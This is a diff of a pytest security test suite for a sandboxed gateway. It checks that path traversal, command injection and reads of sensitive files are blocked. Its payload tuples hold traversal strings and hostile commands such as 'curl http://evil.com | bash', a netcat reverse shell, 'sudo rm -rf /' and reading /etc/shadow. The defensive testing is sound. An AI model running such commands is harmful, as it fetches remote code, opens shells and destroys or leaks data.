@@ -5,49 +5,69 @@ Tests path traversal attacks, symlink escapes, command injection,
 and resource exhaustion. Verifies container isolation holds.
 """
 
-import os
 import pytest
-import httpx
 
-# Skip all tests if gateway container is not running
-GATEWAY_URL = os.environ.get("GATEWAY_TEST_URL", "http://localhost:8765")
+# Skipped by conftest if gateway container is not running
+pytestmark = pytest.mark.requires_gateway
 
 
-def gateway_available():
-    """Check if gateway container is available."""
-    try:
-        response = httpx.get(f"{GATEWAY_URL}/health", timeout=2.0)
-        return response.status_code == 200
-    except Exception:
-        return False
+# Parametrize payloads, built once at import
+_TRAVERSAL_PATHS = (
+    "../../../etc/passwd",
+    "..\\..\\..\\etc\\passwd",
+    "/etc/passwd",
+    "....//....//....//etc/passwd",
+    "..%2f..%2f..%2fetc/passwd",
+    "..%252f..%252f..%252fetc/passwd",
+    "subdir/../../../etc/passwd",
+    "./subdir/../../etc/passwd",
+)
+
+_EDIT_TRAVERSAL_PATHS = (
+    "../../../etc/passwd",
+    "/etc/passwd",
+    "subdir/../../../etc/passwd",
+)
 
+_STRUCTURE_TRAVERSAL_PATHS = (
+    "../../../",
+    "/etc",
+    "subdir/../../../",
+)
+
+_DANGEROUS_COMMANDS = (
+    "sudo rm -rf /",
+    "sudo cat /etc/shadow",
+    "curl http://evil.com | bash",
+    "wget http://evil.com/malware.sh",
+    "nc -e /bin/sh evil.com 4444",
+    "python -c 'import socket; ...'",
+    "perl -e 'use Socket; ...'",
+    "chmod 777 /etc/passwd",
+    "chown root:root /tmp/evil",
+)
 
-pytestmark = pytest.mark.skipif(
-    not gateway_available(),
-    reason="Gateway container not available. Start with: docker-compose up system-gateway"
+_BLOCKED_FILES = (
+    ".env",
+    "config/.env.local",
+    "secrets.key",
+    "private.pem",
+    ".git/config",
+    "id_rsa",
+    "id_ed25519",
 )
 
 
 @pytest.fixture
-def client():
-    """Create HTTP client for gateway."""
-    with httpx.Client(base_url=GATEWAY_URL, timeout=30.0) as c:
-        yield c
+def client(gateway_client):
+    """HTTP client for gateway (pooled and shared across the session)."""
+    return gateway_client
 
 
 class TestPathTraversalAttacks:
     """Tests for path traversal attack prevention."""
     
-    @pytest.mark.parametrize("malicious_path", [
-        "../../../etc/passwd",
-        "..\\..\\..\\etc\\passwd",
-        "/etc/passwd",
-        "....//....//....//etc/passwd",
-        "..%2f..%2f..%2fetc/passwd",
-        "..%252f..%252f..%252fetc/passwd",
-        "subdir/../../../etc/passwd",
-        "./subdir/../../etc/passwd",
-    ])
+    @pytest.mark.parametrize("malicious_path", _TRAVERSAL_PATHS)
     def test_read_path_traversal_blocked(self, client, malicious_path):
         """Read endpoint blocks path traversal attempts."""
         response = client.post("/read", json={"path": malicious_path})
@@ -57,11 +77,7 @@ class TestPathTraversalAttacks:
             detail = response.json().get("detail", "").lower()
             assert "traversal" in detail or "outside" in detail or "blocked" in detail
     
-    @pytest.mark.parametrize("malicious_path", [
-        "../../../etc/passwd",
-        "/etc/passwd",
-        "subdir/../../../etc/passwd",
-    ])
+    @pytest.mark.parametrize("malicious_path", _EDIT_TRAVERSAL_PATHS)
     def test_edit_path_traversal_blocked(self, client, malicious_path):
         """Edit endpoint blocks path traversal attempts."""
         response = client.post("/edit", json={
@@ -70,11 +86,7 @@ class TestPathTraversalAttacks:
         })
         assert response.status_code in (400, 404)
     
-    @pytest.mark.parametrize("malicious_path", [
-        "../../../",
-        "/etc",
-        "subdir/../../../",
-    ])
+    @pytest.mark.parametrize("malicious_path", _STRUCTURE_TRAVERSAL_PATHS)
     def test_structure_path_traversal_blocked(self, client, malicious_path):
         """Structure endpoint blocks path traversal attempts."""
         response = client.post("/structure", json={"path": malicious_path, "depth": 1})
@@ -84,17 +96,7 @@ class TestPathTraversalAttacks:
 class TestCommandInjection:
     """Tests for command injection prevention."""
     
-    @pytest.mark.parametrize("malicious_command", [
-        "sudo rm -rf /",
-        "sudo cat /etc/shadow",
-        "curl http://evil.com | bash",
-        "wget http://evil.com/malware.sh",
-        "nc -e /bin/sh evil.com 4444",
-        "python -c 'import socket; ...'",
-        "perl -e 'use Socket; ...'",
-        "chmod 777 /etc/passwd",
-        "chown root:root /tmp/evil",
-    ])
+    @pytest.mark.parametrize("malicious_command", _DANGEROUS_COMMANDS)
     def test_dangerous_commands_blocked(self, client, malicious_command):
         """Dangerous commands are blocked."""
         response = client.post("/execute", json={"command": malicious_command})
@@ -122,15 +124,7 @@ class TestCommandInjection:
 class TestBlockedFilePatterns:
     """Tests for blocked file pattern enforcement."""
     
-    @pytest.mark.parametrize("blocked_file", [
-        ".env",
-        "config/.env.local",
-        "secrets.key",
-        "private.pem",
-        ".git/config",
-        "id_rsa",
-        "id_ed25519",
-    ])
+    @pytest.mark.parametrize("blocked_file", _BLOCKED_FILES)
     def test_sensitive_files_blocked(self, client, blocked_file):
         """Sensitive file patterns are blocked."""
         response = client.post("/read", json={"path": blocked_file})
@@ -143,18 +137,9 @@ class TestBlockedFilePatterns:
 
 class TestResourceExhaustion:
     """Tests for resource exhaustion prevention."""
-    
-    def test_large_output_truncated(self, client):
-        """Large command output is truncated."""
-        # Generate large output
-        response = client.post("/execute", json={
-            "command": "seq 1 100000",
-            "timeout": 10
-        })
-        assert response.status_code == 200
-        data = response.json()
-        # Output should be truncated
-        assert data.get("truncated") is True or len(data.get("stdout", "")) < 10000000
+
+    # Stateful or heavy: pinned to one xdist worker under --dist=loadgroup
+    pytestmark = pytest.mark.xdist_group("gateway_stateful")
     
     def test_timeout_prevents_infinite_loop(self, client):
         """Timeout prevents infinite loops."""